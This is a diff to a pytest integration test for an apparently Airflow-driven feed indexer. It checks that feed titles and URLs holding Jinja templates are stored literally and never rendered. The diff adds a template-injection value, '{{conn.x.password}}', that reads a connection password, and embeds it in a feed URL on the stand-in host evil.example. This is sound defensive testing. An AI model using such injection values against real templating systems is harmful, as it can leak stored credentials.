@@ -24,6 +24,7 @@ pytestmark = [pytest.mark.airflow, pytest.mark.slow]
 
 XCOM_LIMIT = 1024  # bytes
 TEMPLATE = "{{ 7*7 }}"
+SECRET_TEMPLATE = "{{conn.x.password}}"  # blanks would be quoted
 
 
 def airflow(home: Path, site: Site, monkeypatch: pytest.MonkeyPatch, *, limit_s: float = 300.0, **settings: str) -> Callable[..., str]:
@@ -53,7 +54,8 @@ def test_from_a_feed_to_the_index(tmp_path: Path, monkeypatch: pytest.MonkeyPatc
         run = airflow(tmp_path, site, monkeypatch)
         with context_of(tmp_path, site) as ctx:
             ctx.ledger.feeds.add(FEED)
-            ctx.ledger.feeds.add(f"http://evil.example/feed.xml?x={TEMPLATE}", title=TEMPLATE)
+            evil = f"http://evil.example/feed.xml?x={SECRET_TEMPLATE}"
+            ctx.ledger.feeds.add(evil, title=TEMPLATE)
             channel = ctx.ledger.channels.add(hook_url, shown=shown(hook_url))
             ctx.ledger.alerts.add_rule(TEMPLATE, "bridge", [channel], delivery=Delivery(max_age_s=None))
         run("db", "migrate")
@@ -63,7 +65,7 @@ def test_from_a_feed_to_the_index(tmp_path: Path, monkeypatch: pytest.MonkeyPatc
         with context_of(tmp_path, site) as ctx:
             outcomes = ctx.ledger.counts.outcomes()
             assert outcomes[OutcomeKind.INDEXED, None] == len(indexed(ctx)) == 6
-            assert TEMPLATE in {feed.title for feed in ctx.ledger.feeds.all()}
+            assert (TEMPLATE, evil) in {(feed.title, feed.url) for feed in ctx.ledger.feeds.all()}
             backlog = ctx.ledger.counts.backlog()
             assert (backlog.discovered, backlog.claimed, backlog.open_batches) == (0, 0, 0)
 
